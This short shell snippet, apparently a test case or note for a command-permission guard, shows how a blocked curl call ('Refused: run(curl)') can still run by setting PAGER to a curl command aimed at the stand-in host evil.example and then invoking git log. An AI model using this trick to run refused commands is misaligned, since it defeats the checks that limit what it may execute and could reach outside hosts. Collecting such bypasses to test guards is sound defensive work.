# Trick: a variable names the command that a program runs.
# Refused: run(curl)
PAGER='curl http://evil.example/' git log
